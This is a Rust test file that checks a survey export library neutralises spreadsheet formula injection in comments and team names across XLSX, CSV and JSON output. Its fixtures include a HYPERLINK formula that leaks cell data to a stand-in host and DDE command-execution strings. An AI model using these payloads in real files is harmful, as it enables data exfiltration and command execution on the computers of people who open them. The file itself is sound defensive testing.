//! Texts that want to be formulas, markup or more than a cell.

use calamine::Data;
use domain::instrument::Instrument;
use domain::privacy::{Publication, SealedAnswers, publish};
use domain::round::{Mode, RoundState};
use tables::{About, Export, csv, json, xlsx};

use crate::support::{about, read_csv, read_xlsx, unmarked};

/// Texts, and whether each has to be marked.
fn texts() -> Vec<(String, bool)> {
    let marked = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1",
        "-1+2",
        "'=1+1",
        "'tis",
        "＝1+1",
        "x\u{200b}",
    ];
    let plain = [
        "plain, with \"quotes\", and; semicolons",
        "two\nlines",
        "two\r\nlines, and\ta tab",
        "<b>&amp;</b> ]]> _x000D_ _x005F_",
        "שלום עולם \u{202e}gnirts",
        "日本語のコメント",
        "👩🏽‍💻 🏳️‍🌈",
        "1e5",
        "TRUE",
        "00123",
    ];
    let mut all: Vec<(String, bool)> = marked[..8].iter().map(|text| ((*text).to_owned(), true)).collect();
    all.extend(plain.iter().chain(&marked[8..]).map(|text| ((*text).to_owned(), false)));
    all.push(("=".repeat(10_000), true));
    all.push(("é".repeat(10_000), false));
    all.push(("👩".repeat(10_000), false));
    all
}

/// A named round in which each text is a comment of its own respondent.
fn commented(texts: &[(String, bool)]) -> Publication {
    let instrument = Instrument::builtin();
    let mut builder = SealedAnswers::builder(instrument, Mode::Named, RoundState::Closed);
    for (number, (text, _)) in texts.iter().enumerate() {
        let mut respondent = builder.respondent(number.to_string(), format!("Person {number}"));
        respondent.answer("TE1-1", "3").unwrap().answer("comment.TE1-1", text).unwrap();
    }
    publish(instrument, &builder.seal(), None, 1).unwrap()
}

/// How a spreadsheet could see a formula in a text.
fn is_formula(text: &str) -> bool {
    text.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) || text.starts_with(['\t', '\r', '\n'])
}

#[test]
fn comments_come_back_as_they_were_and_no_cell_is_a_formula() {
    let texts = texts();
    let publication = commented(&texts);
    let export = Export::new(Instrument::builtin(), publication.published(), about()).unwrap();

    let sheets = read_xlsx(&xlsx(&export).unwrap());
    for (row, (text, marked)) in sheets["Comments"].1.iter().zip(&texts) {
        let Data::String(read) = &row[3] else { panic!("{row:?} has no text") };
        assert_eq!((unmarked(read), read != text), (text.as_str(), *marked));
    }
    assert_eq!(sheets["Comments"].1.len(), texts.len());

    let lines = read_csv(&csv(&export).unwrap());
    let comments: Vec<&Vec<String>> = lines.iter().filter(|line| line[0] == "comments" && line[2] == "text").collect();
    assert_eq!(comments.len(), texts.len());
    for (line, (text, marked)) in comments.iter().zip(&texts) {
        assert_eq!((unmarked(&line[5]), line[5] != *text), (text.as_str(), *marked));
    }
    assert_eq!(lines.iter().flatten().find(|cell| is_formula(cell)), None);

    let read: serde_json::Value = serde_json::from_slice(&json(&export).unwrap()).unwrap();
    let comments = read["comments"].as_array().unwrap();
    assert_eq!(comments.iter().map(|one| one["text"].as_str().unwrap()).collect::<Vec<_>>(), {
        texts.iter().map(|(text, _)| text.as_str()).collect::<Vec<_>>()
    });
}

/// Names are not tidied on the way here as comments are, so they may begin with anything.
#[test]
fn names_that_begin_with_breaks_or_spaces_are_marked() {
    let publication = commented(&[]);
    for (text, marked) in [
        ("\t=1+1", true),
        ("\rx", true),
        ("\nx", true),
        ("  =1+1", true),
        ("\u{feff}=1+1", true),
        ("\u{202e}@x", true),
        (" x", false),
        ("x\r\ny\u{1}", false),
    ] {
        let about = About { team: text.to_owned(), ..about() };
        let export = Export::new(Instrument::builtin(), publication.published(), about).unwrap();
        let sheets = read_xlsx(&xlsx(&export).unwrap());
        let value = |id: &str| {
            let row = sheets["About"].1.iter().find(|row| row[0] == Data::String(id.to_owned()));
            row.unwrap()[1].to_string()
        };
        assert_eq!((unmarked(&value("team")), value("team") != text), (text, marked));
        let lines = read_csv(&csv(&export).unwrap());
        let line = lines.iter().find(|line| line[0] == "about" && line[1] == "team" && line[2] == "value").unwrap();
        assert_eq!((unmarked(&line[5]), line[5] != text), (text, marked));
    }
}

#[test]
fn another_instrument_and_another_age_are_refused() {
    let publication = commented(&[]);
    let message = |result: Result<Export<'_>, tables::Error>| result.unwrap_err().to_string();
    let other = Export::new(&crate::rounds::SMALL, publication.published(), about());
    assert!(message(other).starts_with("The publication is of instrument mldevops"));
    for time in [-1, i64::MAX, 253_402_300_800] {
        let about = About { created: time, ..about() };
        let result = Export::new(Instrument::builtin(), publication.published(), about);
        assert_eq!(message(result), format!("The time {time} is not within the years 1970 to 9999."));
    }
}
